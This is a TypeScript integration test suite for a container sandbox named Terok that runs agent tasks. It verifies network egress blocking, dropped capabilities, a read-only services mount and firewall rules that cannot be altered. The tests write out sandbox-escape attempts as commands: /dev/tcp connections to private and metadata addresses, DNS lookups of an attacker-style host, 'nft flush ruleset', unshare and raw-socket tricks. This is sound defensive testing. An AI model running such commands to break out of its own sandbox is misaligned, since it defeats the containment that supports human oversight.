import { spawnSync } from 'node:child_process';
import { readFile, stat } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Task } from '../../src/runtime/tasks/contract.ts';
import { podmanEngine, runner } from '../support/host.ts';
import { Terok } from '../support/runtime-host.ts';

let terok: Terok;
let task: Task;
beforeAll(async () => {
  terok = await Terok.make();
  task = await terok.ready((await terok.runtime.tasks.create({ project: 'demo' })).id);
});
afterAll(() => terok[Symbol.asyncDispose]());

/** How a TCP connection from inside the task ends, and in how many milliseconds. */
async function connect(
  address: string,
  port: number,
): Promise<{ readonly how: string; readonly tookMs: number }> {
  const { stdout } = await terok.exec(
    task,
    `s=$(date +%s%N); m=$( (exec 3<>/dev/tcp/${address}/${port}) 2>&1 ); c=$?; e=$(date +%s%N); echo "$c $(( (e-s)/1000000 )) $m"`,
  );
  const [code = '', tookMs = '', ...message] = stdout.trim().split(' ');
  return { how: code === '0' ? 'open' : message.join(' '), tookMs: Number(tookMs) };
}

describe('from inside a task', () => {
  it.each([
    ['203.0.113.7', 443],
    ['198.51.100.1', 22],
    ['10.0.0.1', 80],
    ['172.16.0.1', 80],
    ['192.168.1.1', 80],
    ['10.0.2.2', 22],
    ['169.254.169.254', 80],
    ['100.64.0.1', 80],
    ['224.0.0.1', 80],
  ])('TCP to %s:%i is refused at once (N1, N3, N4)', async (address, port) => {
    const { how, tookMs } = await connect(address, port);
    expect(how).toMatch(/refused|unreachable/i);
    expect(tookMs).toBeLessThan(900);
  });

  it.each(['2001:db8:1::1', 'fd00::1', 'fe80::1', '64:ff9b::a00:1', '2002:a00::1', '::ffff:10.0.0.1'])(
    'TCP to %s is refused at once (N2, N4)',
    async (address) => {
      const { how, tookMs } = await connect(address, 443);
      expect(how).toMatch(/refused|unreachable|assign|permitted|denied|invalid/i);
      expect(tookMs).toBeLessThan(900);
    },
  );

  it('a service on the loopback of the host is out of reach, by every address it has', async () => {
    const server = spawnSync(
      'sh',
      [
        '-c',
        'socat TCP-LISTEN:18999,bind=0.0.0.0,reuseaddr,fork EXEC:"echo leaked" >/dev/null 2>&1 & echo $!',
      ],
      {
        encoding: 'utf8',
      },
    );
    const pid = Number(server.stdout.trim());
    try {
      const addresses = spawnSync('hostname', ['-I'], { encoding: 'utf8' })
        .stdout.trim()
        .split(/\s+/)
        .filter((address) => !address.includes(':'));
      for (const address of [...addresses, '10.0.2.2', '127.0.0.1', '169.254.1.2']) {
        expect((await connect(address, 18_999)).how, address).not.toBe('open');
      }
    } finally {
      process.kill(pid);
    }
  });

  it('a name is not looked up anywhere (N18)', async () => {
    const startedAt = performance.now();
    const { stdout } = await terok.exec(
      task,
      'getent hosts example.com; echo code $?; getent hosts secret.attacker.example; echo code $?',
    );
    expect(stdout).toMatch(/^code [12]\ncode [12]\n$/);
    expect(performance.now() - startedAt).toBeLessThan(3_000);
    const udp = await terok.exec(task, 'echo x > /dev/udp/8.8.8.8/53; echo code $?');
    expect(udp.stdout + udp.stderr).toMatch(/not permitted|unreachable|denied|code 1/i);
  });

  it('its own services answer: the gate asks for the token (G2)', async () => {
    const withoutToken = await terok.exec(
      task,
      'curl -s -o /dev/null -w "%{http_code}" "http://localhost:9418/demo.git/info/refs?service=git-upload-pack"',
    );
    expect(withoutToken.stdout).toBe('401');
    const fetched = await terok.exec(task, 'git ls-remote origin HEAD | wc -l');
    expect(fetched.stdout.trim()).toBe('1');
  });

  it('it has no capability, and the agent no way to gain one when restricted', async () => {
    const restricted = await terok.ready(
      (await terok.runtime.tasks.create({ project: 'demo', restricted: true })).id,
    );
    const [inside] = JSON.parse(await terok.podman('inspect', restricted.container));
    const status = await readFile(`/proc/${inside.State.Pid}/status`, 'utf8');
    expect(status).toMatch(/CapEff:\s0+\n/);
    expect(status).toMatch(/CapBnd:\s0+\n/);
    expect(status).toMatch(/NoNewPrivs:\s1/);
    const [open] = JSON.parse(await terok.podman('inspect', task.container));
    const openStatus = await readFile(`/proc/${open.State.Pid}/status`, 'utf8');
    // chown, dac_override, fowner, setgid, setuid, audit_write: what sudo needs, and no more.
    expect(Number.parseInt(/CapBnd:\s([0-9a-f]+)/.exec(openStatus)?.[1] ?? '', 16)).toBe(0x2000_00cb);
    expect(openStatus).toMatch(/NoNewPrivs:\s0/);
    await terok.runtime.tasks.delete(restricted.id);
  });

  it('sudo works where it is meant to, and is refused to a restricted task', async () => {
    const open = await terok.runSteps([
      'run sudo -n id -u',
      'try sudo -n unshare --net true',
      'try sudo -n ip link add dummy0 type dummy',
    ]);
    expect(await terok.output(open.id)).toMatch(/^0$/m);
    const closed = await terok.runSteps(['run sudo -n id -u'], { restricted: true });
    expect(closed.state).toBe('failed');
  });

  it('the mount of its services is read-only, and nothing else of the host is there', async () => {
    const { stdout } = await terok.exec(
      task,
      'touch /run/terok/x; echo $?; rm -f /run/terok/gate.sock; echo $?; ls /sys /sys/fs | head; ls -A /run/terok',
    );
    expect(stdout.startsWith('1\n1\n')).toBe(true);
    expect(stdout).toContain('gate.sock');
    const mounts = await terok.exec(
      task,
      "grep -cE ' (/var/lib|/home/[^ ]*share|/run/user)' /proc/self/mounts || true",
    );
    expect(mounts.stdout.trim()).toBe('0');
    expect((await stat(path.join(terok.host.paths.services, task.id, 'gate.sock'))).isSocket()).toBe(true);
  });

  it("the keyring of the daemon's session is not the task's", async () => {
    // keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, create): add_key(2), keyctl(2).
    const ask = 'print syscall(250, 0, -3, 1), "\\n"';
    const host = spawnSync('perl', ['-e', ask], { encoding: 'utf8' }).stdout.trim();
    const inside = await terok.runSteps([`run perl -e '${ask}'`], { restricted: true });
    const output = await terok.output(inside.id);
    expect(host).toMatch(/^\d+$/);
    expect(output).toMatch(/^-?\d+$/m);
    expect(output.split('\n')).not.toContain(host);
  });

  it('container root is nobody on the host', async () => {
    const map = await readFile(
      `/proc/${JSON.parse(await terok.podman('inspect', task.container))[0].State.Pid}/uid_map`,
      'utf8',
    );
    const [, hostId] = map.trim().split('\n')[0]?.trim().split(/\s+/) ?? [];
    expect(Number(hostId)).toBeGreaterThan(0);
  });
});

describe('the rules of a task', () => {
  /** nft of the host, run as root of the container's own user namespace with every capability it has. */
  const asContainerRoot = async (command: string) => {
    const [container] = JSON.parse(await terok.podman('inspect', task.container));
    const [file = '', ...args] = [
      ...(await podmanEngine(terok.host.paths).hostNamespacePrefix()),
      'nsenter',
      `--target=${container.State.Pid}`,
      '--user',
      '--net',
      '--setuid=0',
      '--setgid=0',
      '--',
      'sh',
      '-c',
      command,
    ];
    return await runner.run({
      file,
      args,
      okCodes: Array.from({ length: 256 }, (_, code) => code),
      parse: (output) => output,
    });
  };

  it('cannot be listed or altered from inside, not even with every capability (N16, N17)', async () => {
    for (const command of [
      'nft list ruleset',
      'nft flush ruleset',
      'nft add rule inet terok output accept',
      'nft delete table inet terok',
      'iptables -L -n',
      'ip link set lo down',
    ]) {
      const { exitCode, stdout, stderr } = await asContainerRoot(command);
      expect(exitCode, command).not.toBe(0);
      expect(stdout, command).not.toContain('terok');
      expect(stderr, command).toMatch(/not permitted|denied|can't initialize|Could not fetch/i);
    }
    expect((await terok.runtime.egress.status(task.id)).state).toBe('up');
  });

  it('do not bind a namespace the agent makes, which then reaches nothing (N17)', async () => {
    const { stdout, stderr } = await terok.exec(
      task,
      'unshare -Urn bash -c "exec 3<>/dev/tcp/203.0.113.7/443" 2>&1; python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)" 2>&1; ping -c1 -W1 203.0.113.7 2>&1; true',
    );
    expect(stdout + stderr).not.toContain('open');
    expect(stdout + stderr).toMatch(/unreachable|not permitted|No space/i);
  });

  it('would not hold if they could be altered: the same change from the host opens the network', async () => {
    const victim = await terok.ready((await terok.runtime.tasks.create({ project: 'demo' })).id);
    const pin = path.join(terok.host.paths.networks, victim.id);
    const [file = '', ...args] = [
      ...(await podmanEngine(terok.host.paths).hostNamespacePrefix()),
      'nsenter',
      `--net=${pin}`,
      '--',
      'nft',
      'flush',
      'ruleset',
    ];
    await runner.run({ file, args, parse: () => undefined });
    const { stdout } = await terok.exec(
      victim,
      '(timeout 1 bash -c "exec 3<>/dev/tcp/203.0.113.7/443") 2>&1 | grep -c refused',
    );
    expect(stdout.trim()).toBe('0');
    expect((await terok.runtime.egress.status(victim.id)).state).toBe('altered');
    await terok.runtime.tasks.delete(victim.id);
  });
});

describe('a container started by hand', () => {
  it('has no network when its namespace is gone (N15)', async () => {
    const made = await terok.ready((await terok.runtime.tasks.create({ project: 'demo' })).id);
    await terok.runtime.tasks.stop(made.id);
    await expect(terok.podman('start', made.container)).rejects.toMatchObject({ code: 'COMMAND_FAILED' });
    expect(await terok.podman('ps', '--format={{.Names}}')).not.toContain(made.container);
    await terok.runtime.tasks.delete(made.id);
  });

  it('with its namespace still there runs behind the same rules (N15)', async () => {
    const made = await terok.ready((await terok.runtime.tasks.create({ project: 'demo' })).id);
    await terok.runtime[Symbol.asyncDispose]();
    await terok.podman('stop', '--time=1', made.container);
    await terok.podman('start', made.container);
    const { stdout } = await terok.exec(made, '(exec 3<>/dev/tcp/203.0.113.7/443) 2>&1');
    expect(stdout).toContain('refused');
    await terok.restart();
    await terok.runtime.tasks.delete(made.id);
  });
});
